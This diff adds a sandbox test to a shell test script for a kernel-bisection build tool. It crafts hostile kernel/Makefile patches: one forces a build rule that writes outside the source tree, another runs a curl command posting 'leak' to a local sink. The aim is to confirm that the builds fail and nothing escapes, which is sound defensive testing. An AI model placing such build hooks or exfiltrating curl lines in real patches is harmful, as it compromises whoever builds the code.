@@ -55,6 +55,34 @@ page=$pk/index.html
 check "the download page: install, uname -r, uninstall, Secure Boot" \
 	sh -c "grep -q 'sudo apt install ./linux-image-$rel' '$page' && grep -q 'uname -r' '$page' && grep -q 'sudo apt remove linux-image-$rel' '$page' && grep -q 'mokutil --sb-state' '$page' && grep -q 'rpm -ivh kernel-6.1.192~bisectd' '$page'"
 
+# untrusted patches build in the sandbox: a Makefile that writes outside
+# the tree, or reaches the network, fails the build and changes nothing
+git -C "$REPO" show "$CULPRIT:kernel/Makefile" > "$SCRATCH/Makefile.a"
+evil() { # evil NAME RECIPE-LINE: a patch adding a rule to kernel/Makefile
+	cp "$SCRATCH/Makefile.a" "$SCRATCH/Makefile.b"
+	printf '\n$(obj)/reboot.o: $(obj)/%s.stamp\n$(obj)/%s.stamp: FORCE\n\t%s\n\ttouch $@\n' \
+		"$1" "$1" "$2" >> "$SCRATCH/Makefile.b"
+	diff -u --label a/kernel/Makefile --label b/kernel/Makefile \
+		"$SCRATCH/Makefile.a" "$SCRATCH/Makefile.b" > "$SCRATCH/$1.patch"
+}
+# (outside /tmp, which is private in the sandbox: the cache's top)
+escaped=$BISECTD_CACHE/escaped.$$
+evil write "echo escaped > $escaped"
+"$TOP/tests/fixtures/hook-sink" "$SCRATCH/sink.port" "$SCRATCH" 0 &
+sink=$!
+for _ in $(seq 50); do [ -s "$SCRATCH/sink.port" ] && break; sleep 0.1; done
+evil net "curl -s -m 5 -d leak http://127.0.0.1:$(cat "$SCRATCH/sink.port")/"
+for p in write net; do
+	expect_exit 1 "a patch that tries to $p outside: the build fails" \
+		"$BISECTCTL" build --repo "$REPO" --commit "$CULPRIT" \
+		--patch "$SCRATCH/$p.patch" --recipe tiny --out "$SCRATCH/evil-$p"
+	check "and it says where" grep -q "$p.stamp" "$SCRATCH/evil-$p/build.log"
+done
+check "nothing was written outside" [ ! -e "$escaped" ]
+rm -f "$escaped"
+check "nothing reached the network" [ ! -e "$SCRATCH/hook-1.json" ]
+kill "$sink"
+
 # bad input: one line, exit 2, nothing written
 expect_exit 2 "an unknown package format" "$BISECTCTL" build --repo "$REPO" \
 	--commit "$CULPRIT" --recipe tiny --format zip --out "$SCRATCH/bad1"
